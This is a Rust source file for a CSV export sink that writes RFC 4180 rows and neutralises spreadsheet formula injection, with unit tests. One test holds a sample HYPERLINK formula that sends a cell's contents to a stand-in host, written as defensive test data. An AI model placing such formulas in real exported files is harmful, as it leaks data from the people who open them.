//! RFC 4180 csv: a header of column ids, fields quoted when they hold a
//! comma, quote or line break, lines ending CR LF. A file starts with a
//! UTF-8 byte-order mark, which Excel needs to read Chinese and DuckDB and
//! pandas skip.
//!
//! The text comes from the tables units sent in, and the file is made to
//! be opened in Excel: a text that starts with `=`, `+`, `-`, `@`, a tab or
//! a carriage return would be run as a formula there (a link that sends the
//! sheet away, say). Text fields go through the app's own CSV writer
//! (`csv_text`), which gives such a text a leading `'`; numbers are
//! numbers and are written as they are.

use std::io::{self, Write};

use jixiao_core::formats::csv::csv_text;

use crate::rows::{Column, Row, Value};

pub struct CsvSink {
    out: Box<dyn Write + Send>,
}

impl CsvSink {
    pub fn new(mut out: Box<dyn Write + Send>, columns: &[Column], bom: bool) -> io::Result<Self> {
        if bom {
            out.write_all("\u{feff}".as_bytes())?;
        }
        let head: Vec<&str> = columns.iter().map(|c| c.id).collect();
        write!(out, "{}\r\n", head.join(","))?;
        Ok(Self { out })
    }
}

/// One row as a csv line, with its line break.
pub fn line(row: &Row) -> String {
    let mut text = String::new();
    for (i, value) in row.iter().enumerate() {
        if i > 0 {
            text.push(',');
        }
        match value {
            Value::Text(Some(t)) => csv_text(&mut text, t),
            Value::Number(Some(v)) if v.is_finite() => text.push_str(&v.to_string()),
            Value::Count(n) => text.push_str(&n.to_string()),
            _ => {}
        }
    }
    text.push_str("\r\n");
    text
}

impl super::Sink for CsvSink {
    fn write(&mut self, rows: &[Row]) -> io::Result<()> {
        for row in rows {
            self.out.write_all(line(row).as_bytes())?;
        }
        Ok(())
    }

    fn finish(mut self: Box<Self>) -> io::Result<()> {
        self.out.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_are_quoted_only_when_they_must_be() {
        let row = vec![
            Value::Text(Some("甲,乙".into())),
            Value::Text(Some("说\"明\"".into())),
            Value::Text(None),
            Value::Number(Some(92.5)),
            Value::Number(None),
            Value::Count(3),
            Value::Text(Some("两\n行".into())),
        ];
        assert_eq!(
            line(&row),
            "\"甲,乙\",\"说\"\"明\"\"\",,92.5,,3,\"两\n行\"\r\n"
        );
    }

    #[test]
    fn a_text_excel_would_run_as_a_formula_is_written_as_text() {
        let row = vec![
            Value::Text(Some("=HYPERLINK(\"http://x/?\"&A2,\"点此\")".into())),
            Value::Text(Some("@SUM(1+1)".into())),
            Value::Text(Some("-".into())),
            Value::Text(Some("义务教育 = 营养".into())),
            Value::Number(Some(-3.8)),
        ];
        assert_eq!(
            line(&row),
            "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"点此\"\")\",'@SUM(1+1),'-,义务教育 = 营养,-3.8\r\n"
        );
    }
}
